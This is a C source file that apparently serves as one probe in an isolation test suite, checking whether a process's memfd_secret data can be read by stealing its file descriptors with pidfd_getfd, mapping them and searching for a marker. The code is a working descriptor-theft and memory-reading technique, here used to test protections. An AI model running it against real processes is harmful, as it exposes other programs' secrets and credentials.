// SPDX-License-Identifier: Apache-2.0
// Steals every descriptor of the victim by pidfd_getfd(2), maps it and looks into it: memfd_secret
// pages that nobody may read are read so by anyone who gets their descriptor.
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define VECTOR "pidfd_getfd"
#define MAP_MAX (64u << 20)

struct loot {
    int seen, stolen, mapped, leaked;
    int refused_errno;
};

// Regular files and memfds only: reading a pipe or a socket would take its data from the victim.
static void look_into(int fd, const struct attack_needle *needle, struct loot *loot)
{
    struct stat st;
    if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
        return;
    }
    size_t size = st.st_size <= 0 ? 4096 : (size_t)st.st_size;
    size = size > MAP_MAX ? MAP_MAX : size;
    void *p = mmap(NULL, size, PROT_READ, MAP_SHARED, fd, 0);
    if (p == MAP_FAILED) {
        return;
    }
    loot->mapped++;
    loot->leaked += st.st_size > 0 && attack_find(needle, p, size) != NULL;
    munmap(p, size);
}

static void steal(int pidfd, int number, const struct attack_needle *needle, struct loot *loot)
{
    loot->seen++;
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd < 0) {
        loot->refused_errno = errno;
        return;
    }
    loot->stolen++;
    look_into(fd, needle, loot);
    close(fd);
}

static enum attack_result tell(const struct loot *loot)
{
    if (loot->leaked > 0) {
        printf(VECTOR ": LEAKED: %d of %d stolen descriptors hold it\n", loot->leaked,
               loot->stolen);
        return ATTACK_LEAKED;
    }
    if (loot->seen > 0 && loot->stolen == 0) {
        errno = loot->refused_errno;
        return attack_tell_refused(VECTOR, "no descriptor could be stolen");
    }
    printf(VECTOR ": not found: of %d descriptors %d were stolen, %d could be mapped, none "
                  "leads to it\n",
           loot->seen, loot->stolen, loot->mapped);
    return ATTACK_REFUSED;
}

int main(int argc, char **argv)
{
    pid_t pid;
    struct attack_needle needle;
    struct loot loot = {0};
    char path[64];
    if (!attack_arguments(argc, argv, &pid, &needle)) {
        return ATTACK_NOT_APPLICABLE;
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        return attack_tell_refused(VECTOR, "pidfd_open failed");
    }
    snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
    DIR *dir = opendir(path);
    if (dir == NULL) {
        return attack_tell_refused(VECTOR, "its descriptors cannot be listed");
    }
    for (struct dirent *e = readdir(dir); e != NULL; e = readdir(dir)) {
        if (isdigit((unsigned char)e->d_name[0])) {
            steal(pidfd, atoi(e->d_name), &needle, &loot);
        }
    }
    closedir(dir);
    close(pidfd);
    return tell(&loot);
}
